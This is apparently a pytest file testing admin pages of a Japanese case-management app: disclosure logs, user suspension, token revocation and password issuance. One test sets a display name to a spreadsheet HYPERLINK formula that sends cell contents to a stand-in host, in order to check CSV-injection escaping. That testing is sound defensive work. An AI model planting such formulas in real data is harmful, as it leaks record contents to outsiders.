"""管理 pages: who looked at a person's record (開示請求) on a page and as CSV, stopping a user and revoking
an API client's tokens at once — for admins only."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta

import pytest
from sqlalchemy import func, select

from engine import calendar, states
from engine.alerts import alerts
from engine.audit import trail
from engine.cases import reading
from engine.db import unit_of_work
from engine.models import PROVISION_KINDS, ApiToken, AuditEvent, Case, Handoff, User
from engine.privacy import disclosure
from engine.referrals import clients as api_clients
from engine.users import accounts as users
from tests import access_matrix as M
from tests.conftest import NOW
from tests.pages_support import app, case_in, count, error_beside, text_of, web  # noqa: F401  (fixtures)


@pytest.fixture
def world(sessions, make_user):
    return M.build_world(sessions, make_user, NOW)


def _user(sessions, login):
    with unit_of_work(sessions) as s:
        u = s.scalar(select(User).where(User.login == login))
        s.expunge(u)
        return u


def _number(sessions, case_id):
    with unit_of_work(sessions) as s:
        return s.get(Case, case_id).case_number


def test_a_name_that_looks_like_a_formula_reaches_the_csv_as_text(world, web, sessions):
    """A display name an administrator typed is not run by the spreadsheet that opens the answer."""
    name = '=HYPERLINK("http://example.invalid/?"&A1,"開く")'
    with unit_of_work(sessions) as s:
        reader = s.scalar(select(User).where(User.login == "m-receiving"))
        reader.display_name = name
        reading.read_case(s, reader, world.case_id)
    number = _number(sessions, world.case_id)
    admin = web(_user(sessions, world.logins["admin"]))
    body = admin.get(f"/admin/disclosure.csv?case={number}").get_data(as_text=True)
    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    names = [row[3] for row in table[1:] if row[2] == "m-receiving"]
    assert names and set(names) == {"'" + name}
    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_admin_answers_who_looked_at_the_record_on_a_page_and_as_csv(world, web, sessions):
    with unit_of_work(sessions) as s:  # a read from a known address
        trail.bind(s, remote_addr="10.1.2.3")
        reading.read_case(s, s.scalar(select(User).where(User.login == "m-receiving")), world.case_id)
    admin = web(_user(sessions, world.logins["admin"]))
    number = _number(sessions, world.case_id)
    r = admin.get(f"/admin/disclosure?case={number.lower()}")
    assert r.status_code == 200
    page = text_of(r)
    assert f"対象のケース: {number}" in page and "ケース記録の閲覧" in page and "10.1.2.3" in page
    assert "m-receiving" in page and "令和8年11月30日" in page
    for word in [*M.MARKERS.values(), world.person_name, "0001234567"]:
        assert word not in page
    c = admin.get(f"/admin/disclosure.csv?case={number}")
    assert c.status_code == 200 and c.mimetype == "text/csv"
    assert f'filename="disclosure-{number}.csv"' in c.headers["Content-Disposition"]
    body = c.get_data(as_text=True)
    assert body.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert table[0][:3] == ["日時", "ケース番号", "操作者"]
    assert any(row[2] == "m-receiving" and row[8] == "10.1.2.3" for row in table[1:])
    # The time as the trail keeps it and as a person reads it.
    assert table[0][-1] == "日時（和暦）"
    for row in table[1:]:
        at = datetime.fromisoformat(row[0])
        assert at.utcoffset() == timedelta(hours=9)
        assert row[-1] == f"{calendar.wareki(at.date())} {at:%H:%M}"
    for word in [*M.MARKERS.values(), world.person_name]:
        assert word not in body
    # Each answer is itself in the trail, under the admin's name.
    with unit_of_work(sessions) as s:
        rows = s.scalars(select(AuditEvent).where(AuditEvent.action == "audit.person_trail")).all()
        assert [r.actor_label for r in rows] == [world.logins["admin"]] * 2


def test_an_unknown_case_number_is_said_beside_the_field(world, web, sessions):
    r = web(_user(sessions, world.logins["admin"])).get("/admin/disclosure?case=R8-999999")
    assert r.status_code == 404
    assert "R8-999999" in error_beside(r, "disclosure", "case")


@pytest.mark.parametrize("role", ["receiving", "fm_member", "window"])
def test_anyone_but_an_admin_is_refused_and_the_refusal_is_audited(world, web, sessions, role):
    client = web(_user(sessions, world.logins[role]))
    number = _number(sessions, world.case_id)
    client.get(f"/cases/{world.case_id}")
    for url in ("/admin/", f"/admin/disclosure?case={number}", f"/admin/disclosure.csv?case={number}"):
        r = client.get(url)
        assert r.status_code == 403, url
        assert "ケース記録の閲覧" not in text_of(r) and "利用者" not in text_of(r)
    assert client.post(f"/admin/users/{world.logins['outsider']}/disable").status_code == 403
    assert client.post("/admin/clients/houkatsu-oono/revoke").status_code == 403
    with unit_of_work(sessions) as s:
        assert s.scalar(select(User.active).where(User.login == world.logins["outsider"])) is True
        users.disable_user(s, None, world.logins["outsider"])
    assert client.post(f"/admin/users/{world.logins['outsider']}/enable").status_code == 403
    assert client.post(f"/admin/users/{world.logins['outsider']}/password").status_code == 403
    added = client.post("/admin/users", {"login": "sneaky", "department": "desk", "role": "admin"})
    assert added.status_code == 403
    with unit_of_work(sessions) as s:
        assert s.scalar(select(User.active).where(User.login == world.logins["outsider"])) is False
        assert s.scalar(select(User.id).where(User.login == "sneaky")) is None
        assert s.scalar(select(func.count()).select_from(AuditEvent).where(
            AuditEvent.outcome == "refused", AuditEvent.actor_label == world.logins[role])) == 8
        assert s.scalar(select(func.count()).select_from(AuditEvent).where(
            AuditEvent.action == "audit.person_trail")) == 0


def test_admin_stops_a_user_whose_open_session_ends_at_once(world, web, sessions):
    admin = web(_user(sessions, world.logins["admin"]))
    staff = web(_user(sessions, world.logins["receiving"]))
    assert staff.get(f"/cases/{world.case_id}").status_code == 200
    page = admin.get("/admin/")
    assert page.status_code == 200 and "m-receiving" in text_of(page)
    asked = admin.post(f"/admin/users/{world.logins['receiving']}/disable")
    assert asked.status_code == 200 and _user(sessions, world.logins["receiving"]).active
    assert "m-receiving）を停止しますか" in text_of(asked)
    assert staff.get(f"/cases/{world.case_id}").status_code == 200
    r = admin.post(f"/admin/users/{world.logins['receiving']}/disable", {"confirmed": "yes"})
    assert r.status_code == 303
    assert "停止しました" in text_of(admin.get("/admin/"))
    after = staff.get(f"/cases/{world.case_id}")
    assert after.status_code == 302 and "/login" in after.headers["Location"]
    # An admin cannot stop their own account from the page; an unknown login is said so.
    own = admin.post(f"/admin/users/{world.logins['admin']}/disable", follow_redirects=True)
    assert "自分自身は停止できません" in text_of(own)
    assert _user(sessions, world.logins["admin"]).active
    assert "という利用者はいません" in text_of(admin.post("/admin/users/nobody/disable", follow_redirects=True))


def test_admin_lets_a_stopped_user_back_in(world, web, sessions):
    admin = web(_user(sessions, world.logins["admin"]))
    r = admin.post(f"/admin/users/{world.logins['receiving']}/disable", {"confirmed": "yes"})
    assert r.status_code == 303
    page = admin.get("/admin/")
    assert f'aria-label="{world.logins["receiving"]} を再開"' in page.get_data(as_text=True)
    r = admin.post(f"/admin/users/{world.logins['receiving']}/enable")
    assert r.status_code == 303
    assert "再開しました" in text_of(admin.get("/admin/"))
    staff = _user(sessions, world.logins["receiving"])
    assert staff.active
    assert web(staff).get(f"/cases/{world.case_id}").status_code == 200
    again = admin.post(f"/admin/users/{world.logins['receiving']}/enable", follow_redirects=True)
    assert "停止されていません" in text_of(again)
    assert count(sessions, AuditEvent, AuditEvent.action == "user.enable") == 1


def test_admin_revokes_an_api_clients_tokens_at_once(world, web, sessions, app):  # noqa: F811
    with unit_of_work(sessions) as s:
        _, token = api_clients.create_token(s, client_name="houkatsu-oono", scopes=["referrals:read"])
    api = app.test_client()
    headers = {"Authorization": f"Bearer {token}"}
    assert api.get(f"/api/v1/referrals/{world.case_id}", headers=headers).status_code == 200
    admin = web(_user(sessions, world.logins["admin"]))
    listing = admin.get("/admin/").get_data(as_text=True)
    assert "houkatsu-oono" in listing and token not in listing
    assert admin.post("/admin/clients/houkatsu-oono/revoke").status_code == 303
    assert api.get(f"/api/v1/referrals/{world.case_id}", headers=headers).status_code == 401
    with unit_of_work(sessions) as s:
        assert s.scalar(select(func.count()).select_from(ApiToken).where(ApiToken.revoked_at.is_(None))) == 0
        row = s.scalars(select(AuditEvent).where(AuditEvent.action == "api_token.revoke")).one()
        assert row.actor_label == world.logins["admin"]


def _written_actions(app) -> set[str]:
    """Every audit action the app can write: the literal ones in the code, and each family it builds."""
    import re
    from pathlib import Path

    root = Path(__file__).parents[1]
    source = "\n".join(p.read_text(encoding="utf-8") for d in ("engine", "web")
                       for p in sorted((root / d).rglob("*.py")))
    endpoints = {r.endpoint for r in app.url_map.iter_rules() if not r.rule.startswith("/api/")
                 and r.endpoint not in ("static", "health.healthz", "health.readyz")}
    families = {
        "case.{event}": {f"case.{e}" for e in states.CASE_EVENT_LABELS},
        "handoff.{event}": {"handoff.accept", "handoff.decline", "handoff.withdraw"},  # of a join request
        "join_offer.{event}": {f"join_offer.{e}" for e in ("offer", "accept", "decline", "withdraw")},
        "provision.{what}": {f"provision.{w}" for w in PROVISION_KINDS},
        "page.{request.endpoint}": {f"page.{e}" for e in endpoints},
        "api {request.method} {rule[len(PREFIX):]}": set(),  # named by its method and path
    }
    built = set(re.findall(r'\baction=\s*f"([^"]+)"', source))
    assert built <= set(families), f"actions built in ways this test does not know: {built - set(families)}"
    return set(re.findall(r'\baction=\s*"([^"]+)"', source)).union(*families.values())


def test_every_audit_action_the_app_writes_has_a_japanese_label(app):

    unlabelled = sorted(a for a in _written_actions(app)
                        if disclosure.action_label(a) in (a, "閲覧", "画面の操作（画面）"))
    assert unlabelled == [], f"no Japanese label in engine.privacy.disclosure for: {unlabelled}"


def test_the_disclosure_page_names_a_reassignment_in_japanese(web, actors, case_in, sessions):
    case_id = case_in("handoff")
    with unit_of_work(sessions) as s:
        h = s.scalars(select(Handoff).where(Handoff.case_id == case_id)).one()
        alert_id = alerts.raise_alert(s, kind="handoff_stalled", case_id=case_id, handoff_id=h.id,
                                      department_id=h.to_department_id, due_at=h.due_at, message="期限超過")
    r = web(actors.fm).post(f"/dashboard/alerts/{alert_id}/reassign",
                            {"to_department": "health", "reason": "健康推進課へ"})
    assert r.status_code == 303
    page = text_of(web(actors.admin).get(f"/admin/disclosure?case={_number(sessions, case_id)}"))
    assert "閲覧記録" in page
    raw = sorted(set(re.findall(r"\b[a-z_]+\.[a-z_]+\b", page)))
    assert raw == [], f"codes shown instead of labels: {raw}"


ISSUED = re.compile(r'<code id="issued-password">([^<]+)</code>')


def _signs_in(sessions, login, password) -> bool:
    with unit_of_work(sessions) as s:
        return users.authenticate(s, login, password) is not None


def test_admin_adds_a_user_whose_issued_password_is_shown_once(world, web, sessions):
    admin = web(_user(sessions, world.logins["admin"]))
    r = admin.post("/admin/users", {"login": "tanaka", "name": "田中 一郎", "department": "elderly",
                                    "role": "staff"})
    assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"
    password = ISSUED.search(r.get_data(as_text=True)).group(1)
    assert re.fullmatch(r"[a-zA-Z2-9]{4}-[a-zA-Z2-9]{4}-[a-zA-Z2-9]{4}", password)
    assert "田中 一郎（tanaka）を追加しました" in text_of(r)
    assert _signs_in(sessions, "tanaka", password)
    user = _user(sessions, "tanaka")
    assert (user.role, user.display_name) == ("staff", "田中 一郎")
    with unit_of_work(sessions) as s:
        row = s.scalar(select(AuditEvent).where(AuditEvent.action == "user.add"))
        assert row.actor_label == world.logins["admin"] and password not in str(row.detail)
    # Shown once: the 管理 page does not hold it.
    assert password not in admin.get("/admin/").get_data(as_text=True)
    assert user.must_change_password


def test_a_user_with_an_issued_password_changes_it_before_anything_else(world, web, sessions):
    admin = web(_user(sessions, world.logins["admin"]))
    reset = admin.post(f"/admin/users/{world.logins['receiving']}/password", {"confirmed": "yes"})
    issued = ISSUED.search(reset.get_data(as_text=True)).group(1)
    staff = web(_user(sessions, world.logins["receiving"]))
    for url in ("/", f"/cases/{world.case_id}", "/inbox"):
        r = staff.get(url)
        assert r.status_code == 302 and r.headers["Location"] == "/account/password", url
    # Nothing else is taken either, a form included.
    assert staff.post(f"/cases/{world.case_id}/notes", {"body": "x"}, csrf=False).status_code == 302
    page = staff.get("/account/password")
    assert page.status_code == 200 and "パスワードを変更してください" in text_of(page)
    r = staff.post("/account/password", {"current_password": issued, "new_password": "my own passphrase",
                                         "confirm_password": "my own passphrase"})
    assert r.status_code == 302
    assert staff.get(f"/cases/{world.case_id}").status_code == 200
    assert not _user(sessions, world.logins["receiving"]).must_change_password
    # The API is another credential: a token acting for the user is not held back (tests/api).


def test_adding_a_user_names_what_is_wrong_beside_each_field(world, web, sessions):
    admin = web(_user(sessions, world.logins["admin"]))
    empty = admin.post("/admin/users", {"login": "", "name": "", "department": "", "role": "staff"})
    assert empty.status_code == 422
    assert error_beside(empty, "user", "login") == "ログインIDを入力してください。"
    assert error_beside(empty, "user", "department") == "所属の部署を選んでください。"
    taken = admin.post("/admin/users", {"login": world.logins["receiving"], "department": "desk",
                                        "role": "fm", "name": "別人"})
    assert taken.status_code == 409
    assert "既に使われています" in error_beside(taken, "user", "login")
    assert 'value="別人"' in taken.get_data(as_text=True)  # what was typed stays in the form
    with unit_of_work(sessions) as s:
        assert s.scalar(select(User.display_name).where(User.login == world.logins["receiving"])) != "別人"
        added = select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "user.add")
        assert s.scalar(added) == 0


def test_admin_issues_a_new_password_and_the_users_sessions_end(world, web, sessions):
    login = world.logins["receiving"]
    staff = web(_user(sessions, login))
    assert staff.get(f"/cases/{world.case_id}").status_code == 200
    admin = web(_user(sessions, world.logins["admin"]))
    r = admin.post(f"/admin/users/{login}/password", {"confirmed": "yes"})
    assert r.status_code == 200 and "のパスワードを再設定しました" in text_of(r)
    password = ISSUED.search(r.get_data(as_text=True)).group(1)
    after = staff.get(f"/cases/{world.case_id}")
    assert after.status_code == 302 and "/login" in after.headers["Location"]
    assert "発行したパスワードの変更待ち" in text_of(admin.get("/admin/"))
    assert _signs_in(sessions, login, password)
    assert count(sessions, AuditEvent, AuditEvent.action == "password.reset",
                 AuditEvent.actor_label == world.logins["admin"]) == 1
    unknown = admin.post("/admin/users/nobody/password", follow_redirects=True)
    assert "という利用者はいません" in text_of(unknown)
    # An administrator's own password is changed as anyone's is, knowing the current one.
    own = admin.post(f"/admin/users/{world.logins['admin']}/password", follow_redirects=True)
    assert "「パスワード変更」で変更してください" in text_of(own)
    assert not _user(sessions, world.logins["admin"]).must_change_password


def test_the_admin_page_shows_a_locked_account_until_when(world, web, sessions):
    with unit_of_work(sessions) as s:
        for _ in range(users.FREE_ATTEMPTS):
            users.authenticate(s, world.logins["receiving"], "wrong password")
        until = s.scalar(select(User.locked_until).where(User.login == world.logins["receiving"]))
    page = text_of(web(_user(sessions, world.logins["admin"])).get("/admin/"))
    assert f"ロック中（{calendar.wareki_datetime(until)}まで）" in page


@pytest.mark.parametrize("action, question, button", [
    ("disable", "を停止しますか", "停止する"),
    ("password", "のパスワードを再設定しますか", "パスワードを再設定する"),
])
def test_stopping_a_user_or_resetting_a_password_is_confirmed_first(world, web, sessions, action, question,
                                                                      button):
    login = world.logins["receiving"]
    admin = web(_user(sessions, world.logins["admin"]))
    listed = admin.get("/admin/").get_data(as_text=True)
    assert f'action="/admin/users/{login}/{action}"' in listed
    # The list's button leads to the question; nothing is done yet, and nothing is shown that needs a script.
    r = admin.post(f"/admin/users/{login}/{action}")
    assert r.status_code == 200
    body = r.get_data(as_text=True)
    assert f"（{login}）{question}" in text_of(r) and "<script" not in body and " on" + "click=" not in body
    form = re.search(r'<form method="post" action="([^"]+)" class="row">(.*?)</form>', body, flags=re.S)
    assert form.group(1) == f"/admin/users/{login}/{action}"
    assert '<input type="hidden" name="confirmed" value="yes">' in form.group(2)
    assert f'<button type="submit" class="danger">{button}</button>' in form.group(2)
    assert 'href="/admin/#users">やめる' in form.group(2)
    staff = _user(sessions, login)
    assert staff.active and not staff.must_change_password
    assert count(sessions, AuditEvent, AuditEvent.action.in_(("user.disable", "password.reset"))) == 0
    done = admin.post(f"/admin/users/{login}/{action}", {"confirmed": "yes"})
    assert done.status_code == (303 if action == "disable" else 200)
    staff = _user(sessions, login)
    assert (not staff.active) if action == "disable" else staff.must_change_password


def _cells(table: str) -> list[list[str]]:
    """The cells of each row of an HTML table's body, as HTML."""
    rows = re.findall(r"<tr>(.*?)</tr>", table, flags=re.S)
    return [re.findall(r"<td>(.*?)</td>", row, flags=re.S) for row in rows]


def test_the_state_of_each_user_is_named(world, web, sessions):
    with unit_of_work(sessions) as s:
        users.disable_user(s, None, world.logins["outsider"])
    body = web(_user(sessions, world.logins["admin"])).get("/admin/").get_data(as_text=True)
    table = body.split('id="users-title"')[1].split("</table>")[0]
    state = {row[0]: text_of(row[5]).split()[0] for row in _cells(table) if row}
    assert state[world.logins["receiving"]] == "有効"
    assert state[world.logins["admin"]] == "有効（本人）"
    assert state[world.logins["outsider"]] == "停止中"
    assert "" not in state.values()


def test_the_disclosure_answer_says_the_outcome_of_every_row(world, web, sessions):
    number = _number(sessions, world.case_id)
    client = web(_user(sessions, world.logins["outsider"]))
    assert client.get(f"/cases/{world.case_id}").status_code in (403, 404)  # a refused read, recorded
    reader = web(_user(sessions, world.logins["receiving"]))
    assert reader.get(f"/cases/{world.case_id}").status_code == 200
    admin = web(_user(sessions, world.logins["admin"]))
    body = admin.get(f"/admin/disclosure?case={number}").get_data(as_text=True)
    outcomes = [text_of(row[5]).strip() for row in _cells(body.split("<tbody>")[1].split("</tbody>")[0])]
    assert outcomes and set(outcomes) == {"実施", "拒否"}
